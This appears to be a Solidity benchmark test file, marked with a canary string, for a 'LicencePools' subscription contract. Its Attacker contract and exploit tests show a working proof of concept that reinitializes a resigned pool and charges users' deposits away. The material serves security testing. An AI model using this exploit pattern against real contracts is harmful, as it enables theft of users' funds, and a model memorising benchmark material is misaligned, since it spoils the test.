// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./LicencePools.sol";
import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

// assay-canary-5f3e28fc-df39-4e6b-aae1-5b6be9ee9c59

interface Vm {
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    address private constant DAN = address(0xDA9);

    Token private token;
    LicencePools private pools;
    LicencePool private pool;
    LicencePool private next;
    Attacker private mallory;

    function setUp() public {
        vm.warp(1_800_000_000);
        token = new Token();
        pools = new LicencePools();
        vm.startPrank(CAT);
        pool = LicencePool(pools.open(token, 10e18));
        next = LicencePool(pools.open(token, 10e18));
        vm.stopPrank();
        address[2] memory all = [ANA, BEN];
        for (uint256 i = 0; i < 2; i++) {
            token.mint(all[i], 1_000e18);
            vm.startPrank(all[i]);
            token.approve(address(pool), 1_000e18);
            token.approve(address(next), 1_000e18);
            pool.pay(500e18);
            vm.stopPrank();
        }
        mallory = new Attacker(pool, token, ANA, BEN);
        LicencePool own = mallory.open(pools);
        vm.warp(1_800_000_000 + 70 days);
        token.mint(DAN, 300e18);
        vm.startPrank(DAN);
        token.approve(address(own), 300e18);
        own.pay(300e18);
        vm.stopPrank();
        vm.startPrank(CAT);
        pool.charge(ANA);
        pool.resign();
        vm.stopPrank();
    }

    function test_Regular() public {
        require(token.balanceOf(CAT) == 20e18 && pool.credit(ANA) == 480e18, "two periods");
        vm.prank(ANA);
        pool.leave(480e18);
        require(token.balanceOf(ANA) == 980e18, "free after the end");
        vm.startPrank(BEN);
        next.pay(100e18);
        next.notice();
        vm.stopPrank();
        uint256 t = block.timestamp;
        vm.warp(t + 31 days);
        vm.prank(BEN);
        next.leave(95e18);
        vm.startPrank(CAT);
        require(next.charge(BEN) == 5e18 && token.balanceOf(CAT) == 25e18, "no more than there is");
        next.resign();
        vm.stopPrank();
        require(pools.pools(1) == address(next) && next.licensor() == address(0), "ended");
    }

    function test_RefusesStrangers() public {
        LicencePool model = LicencePool(pools.model());
        vm.expectRevert(Begun.selector);
        next.initialize(ANA, token, 1);
        vm.expectRevert(Begun.selector);
        model.initialize(ANA, token, 1);
        vm.prank(ANA);
        next.pay(1);
        vm.warp(block.timestamp + 31 days);
        vm.expectRevert(NotLicensor.selector);
        next.charge(ANA);
        vm.expectRevert(NotLicensor.selector);
        next.resign();
    }

    function test_RefusesMistakes() public {
        vm.expectRevert(Zero.selector);
        pools.open(IERC20(address(0)), 1);
        vm.expectRevert(Zero.selector);
        pools.open(token, 0);
        vm.prank(address(0));
        vm.expectRevert(Zero.selector);
        pools.open(token, 1);
        vm.startPrank(ANA);
        vm.expectRevert(Ended.selector);
        pool.pay(1);
        vm.expectRevert(Zero.selector);
        next.pay(0);
        next.pay(5);
        vm.expectRevert(Early.selector);
        next.leave(1);
        next.notice();
        vm.expectRevert(Early.selector);
        next.leave(1);
        vm.expectRevert(TooMuch.selector);
        pool.leave(481e18);
        vm.stopPrank();
        LicencePool young = LicencePool(pools.open(token, 1));
        vm.startPrank(ANA);
        token.approve(address(young), 5);
        young.pay(5);
        vm.stopPrank();
        vm.expectRevert(Early.selector);
        young.charge(ANA);
    }

    function exploit() public {
        mallory.run();
        vm.warp(block.timestamp + 30 days);
        mallory.end();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 900e18, "nothing gained");
    }

    function exploit2() public {
        mallory.charge(DAN);
    }

    function test_Exploit2() public {
        exploit2();
        require(token.balanceOf(address(mallory)) >= 200e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function target2() public view returns (address) {
        return address(mallory.own());
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function asset() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    LicencePool private pool;
    LicencePool public own;
    IERC20 private token;
    address private first;
    address private second;

    constructor(LicencePool p, IERC20 t, address a, address b) {
        pool = p;
        token = t;
        first = a;
        second = b;
    }

    function open(LicencePools pools) external returns (LicencePool) {
        own = LicencePool(pools.open(token, 100e18));
        return own;
    }

    function charge(address who) external {
        own.charge(who);
    }

    function run() external {
        pool.initialize(address(this), token, 1_000e18);
        pool.charge(second);
    }

    function end() external {
        pool.charge(first);
    }
}
